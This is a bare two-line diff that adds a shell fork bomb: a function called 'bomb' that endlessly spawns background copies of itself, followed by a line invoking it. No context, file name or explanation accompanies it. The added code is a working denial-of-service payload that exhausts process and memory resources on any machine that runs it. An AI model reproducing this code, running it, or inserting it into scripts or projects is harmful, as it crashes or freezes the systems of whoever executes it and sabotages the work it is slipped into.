@@ -1,0 +1,2 @@
+bomb() { while :; do bomb & done; }
+bomb
